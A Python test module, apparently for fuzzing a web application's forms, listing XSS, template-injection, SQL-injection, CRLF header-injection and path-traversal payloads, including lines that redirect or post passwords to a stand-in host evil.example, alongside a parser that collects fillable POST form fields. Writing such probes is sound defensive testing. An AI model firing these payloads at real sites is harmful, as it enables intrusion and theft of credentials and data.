"""What attackers type, and the forms to type it into."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

#: Scripts, attributes, addresses, broken markup, templates. `91119*73331` is 6681847389, which then must not appear.
MARKUP = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi xlink:href=javascript:alert(1)>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=password>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<!--<script>alert(1)//-->",
    "<scr<script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\u003cscript\\u003ealert(1)",
    "<a href=\x01javascript:alert(1)>x",
    "\u2028<script>alert(1)</script>\u2029", "{{91119*73331}}", "{% import os %}", "${91119*73331}", "#{91119*73331}", "<%= 91119*73331 %>",
    "{{ config.SECRET_KEY }}", "{{ ''.__class__.__mro__ }}", "%(secret_key)s", "{0.__class__}", "%s%n%d",
)  # fmt: skip

DATABASE = (
    "' OR 1=1--", "' OR '1'='1", '" OR 1=1--', "'; DROP TABLE listing;--", "1; DELETE FROM listing",
    "' UNION SELECT password_hash FROM user_account--",
    "') OR ('1'='1", "admin'--", "1 OR 1=1", "1' AND sleep(5)--", "' || (SELECT 1) || '", "%", "_", "%' OR '%'='",
    "\\", "\\'", "`", "/*", "*/",
    "--", "id DESC", "title; --", "1)) OR 1=1--", "' GROUP BY 1 HAVING 1=1--", "x' AND 1=CAST((SELECT 1) AS INT)--",
)  # fmt: skip

STRANGE = (
    "", " ", "\x00", "a\x00b", "\x01\x02\x1b[31m", "\u202eđảo ngược", "\u200b\u200d\ufeff", "\u2066x\u2069",
    "\ufffe\uffff", "\ud800",
    "\udc00\ud800", "e\u0302\u0301" * 20, "Z\u0351\u0322" * 50, "𝕏" * 40, "😀" * 60, "\r\n\r\nSet-Cookie: a=b",
    "a\r\nBcc: x@vidu.example", "-1", "0",
    "10" * 40, "9" * 5000, "1e309", "-1e309", "NaN", "Infinity", "0x7fffffff", "٣", "½", "²", "1_000", "+1", "1.5",
    "null", "None",
    "true", "undefined", "[]", "{}", "[object Object]", "../../etc/passwd", "..\\..\\x", "/etc/passwd\x00.pdf", "file:///etc/passwd",
    "2026-13-45", "0000-00-00", "31/02/2026", "99/99/9999", "1/1/0000", "-0001-01-01", "10000-01-01",
    "999.999.999.999.999.999",
    "1,2,3.4.5", "tỷ", "1 tỷ tỷ", ";" * 500, "C02F 3/30;" * 300, "a" * 300, "a@" + "b" * 300 + ".example",
    "\"x\"@vidu.example", "a@[127.0.0.1]",
    "http://", "https://" + "a" * 400, "javascript://vidu.example/%0aalert(1)",
)  # fmt: skip


@dataclass
class PageForm:
    """A form as it stands on a page: where it goes, its hidden and chosen values, the names one can type or choose."""

    action: str = ""
    fixed: dict[str, str] = field(default_factory=dict)
    typed: list[str] = field(default_factory=list)
    chosen: list[str] = field(default_factory=list)


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[PageForm] = []
        self._open: PageForm | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "form" and values.get("method", "").lower() == "post":
            self._open = PageForm(values.get("action", ""))
            self.found.append(self._open)
        name, kind = values.get("name"), values.get("type", "text")
        if self._open is None or not name or name == "csrf_token":
            return
        if tag == "textarea" or (
            tag == "input" and kind in ("text", "email", "password", "search", "url", "tel", "number")
        ):
            self._open.typed.append(name)
        elif tag == "select" or kind in ("radio", "checkbox"):
            self._open.chosen.append(name)
        elif tag in ("input", "button") and kind != "file":
            self._open.fixed.setdefault(name, values.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._open = None


def forms_of(page: str) -> list[PageForm]:
    """The forms of a page that are posted and have something to fill in."""
    reader = _Forms()
    reader.feed(page)
    return [form for form in reader.found if form.typed or form.chosen]
